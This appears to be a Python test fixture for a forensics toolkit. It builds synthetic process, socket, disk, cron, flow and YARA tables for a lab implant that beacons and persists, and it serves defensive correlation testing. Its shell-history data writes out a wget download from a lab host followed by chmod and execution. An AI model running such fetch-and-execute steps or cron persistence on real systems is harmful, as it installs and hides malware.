"""A small hand-made case: the tables an implant leaves, for correlation, pipeline and report tests."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from toolkit.case import init_case, save_manifest, write_combined_tables, write_table
from toolkit.correlate.findings import correlate_snapshot
from toolkit.correlate.timeline import build_timeline
from toolkit.schemas import SCHEMAS, make_table
from toolkit.vms import refresh_vm_tables

SID = "s1"


def implant_tables() -> dict[str, pd.DataFrame]:
    """Engine tables of one snapshot where a masquerading implant runs from a deleted file, beacons,
    persists through cron and matches a YARA rule; init, a kernel thread and a benign service beside it."""
    t = {}
    t["memory/processes"] = pd.DataFrame(
        [
            {
                "pid": 1,
                "ppid": 0,
                "process": "init",
                "is_kernel_thread": False,
                "exe_path": "/init",
                "exe_deleted": False,
                "in_list": True,
                "in_scan": True,
                "start_ts": pd.Timestamp("2026-01-01T00:00:00Z"),
            },
            {
                "pid": 2,
                "ppid": 0,
                "process": "kthreadd",
                "is_kernel_thread": True,
                "exe_path": None,
                "exe_deleted": False,
                "in_list": True,
                "in_scan": True,
            },
            {
                "pid": 77,
                "ppid": 1,
                "process": "kworker/0:2H",
                "is_kernel_thread": False,
                "exe_path": "/tmp/.kw (deleted)",
                "exe_deleted": True,
                "in_list": True,
                "in_scan": True,
                "start_ts": pd.Timestamp("2026-01-01T00:00:05Z"),
            },
            {
                "pid": 80,
                "ppid": 1,
                "process": "labsvc",
                "is_kernel_thread": False,
                "exe_path": "/usr/sbin/labsvc",
                "exe_deleted": False,
                "in_list": True,
                "in_scan": True,
            },
        ]
    )
    t["memory/sockets"] = pd.DataFrame(
        [
            {
                "pid": 77,
                "proto": "tcp",
                "src_ip": "10.0.2.15",
                "src_port": 40000,
                "dst_ip": "10.0.2.100",
                "dst_port": 8443,
                "state": "ESTABLISHED",
            },
            {
                "pid": 80,
                "proto": "udp",
                "src_ip": "0.0.0.0",
                "src_port": 5353,
                "dst_ip": "0.0.0.0",
                "dst_port": 0,
                "state": "UNCONNECTED",
            },
        ]
    )
    t["memory/executables"] = pd.DataFrame([{"pid": 77, "build_id": "abc", "first_page_sha256": "f" * 64}])
    t["disk/files"] = pd.DataFrame(
        [
            {
                "path": "/var/tmp/.cache/.kworker-upd",
                "sha256": "1" * 64,
                "build_id": "abc",
                "first_page_sha256": "f" * 64,
                "mtime": pd.Timestamp("2026-01-01T00:00:04Z"),
            },
            {"path": "/usr/sbin/labsvc", "sha256": "2" * 64},
        ]
    )
    t["disk/persistence"] = pd.DataFrame(
        [
            {
                "kind": "cron",
                "path": "/etc/cron.d/upd",
                "program": "/var/tmp/.cache/.kworker-upd",
                "program_path": "/var/tmp/.cache/.kworker-upd",
                "program_sha256": "1" * 64,
            }
        ]
    )
    t["disk/shell_history"] = pd.DataFrame(
        [
            {"command": "ls -la"},
            {"command": "wget http://10.0.2.100:8443/kw -O /tmp/.kw"},
            {"command": "chmod +x /tmp/.kw"},
            {"command": "/tmp/.kw"},
        ]
    )
    t["network/flows"] = pd.DataFrame(
        [
            {
                "flow_id": "f1",
                "proto": "tcp",
                "src_ip": "10.0.2.15",
                "src_port": 40000,
                "dst_ip": "10.0.2.100",
                "dst_port": 8443,
                "first_ts": pd.Timestamp("2026-01-01T00:00:06Z"),
                "last_ts": pd.Timestamp("2026-01-01T00:00:30Z"),
                "beacon_intervals": 10,
                "beacon_interval_mean": 2.0,
                "beacon_interval_cv": 0.05,
            }
        ]
    )
    t["yara/matches"] = pd.DataFrame(
        [
            {
                "target": "process",
                "rule": "lab_marker",
                "pid": 77,
                "process": "kworker/0:2H",
                "offset": 4096,
                "severity": "high",
            },
            {"target": "stream", "rule": "lab_marker", "flow_id": "f1", "offset": 0, "severity": "high"},
            {
                "target": "file",
                "rule": "lab_marker",
                "path": "/var/tmp/.cache/.kworker-upd",
                "offset": 100,
                "severity": "high",
            },
        ]
    )
    return t


# The systemd unit that starts the benign service (pid 80): a persistence entry whose program is running.
SERVICE_UNIT = {
    "kind": "systemd",
    "path": "/etc/systemd/system/labsvc.service",
    "program": "/usr/sbin/labsvc",
    "program_path": "/usr/sbin/labsvc",
    "program_sha256": "2" * 64,
}


def write_case(case_dir: Path, tables: dict | None = None, sid: str = SID) -> Path:
    """A case holding ``tables`` (default: :func:`implant_tables`) and their findings and timeline."""
    return write_snapshots(case_dir, {sid: tables or implant_tables()})


def write_snapshots(case_dir: Path, snapshots: dict[str, dict], entries: dict[str, dict] | None = None) -> Path:
    """A case of several snapshots: {snapshot id: its engine tables}, each correlated, with
    ``entries`` {snapshot id: manifest entry fields} (disks, domain, captured_at...) and the VM tables."""
    manifest = init_case(case_dir)
    for sid, raw in snapshots.items():
        tables = {
            name: make_table(name, df, snapshot_id=sid, source="test") for name, df in raw.items() if name in SCHEMAS
        }
        findings, _problems, _graph = correlate_snapshot(tables, sid)
        tables["findings"], tables["timeline"] = findings, build_timeline(tables, sid, {})
        for name, df in tables.items():
            write_table(case_dir, name, sid, df)
        manifest["snapshots"][sid] = {"name": sid, "times": {}, **((entries or {}).get(sid) or {})}
    for sid, entry in (entries or {}).items():
        manifest["snapshots"].setdefault(sid, {"name": sid, "times": {}, **entry})  # e.g. not analysed: same moment
    write_combined_tables(case_dir)
    refresh_vm_tables(case_dir, manifest)
    save_manifest(case_dir, manifest)
    return case_dir
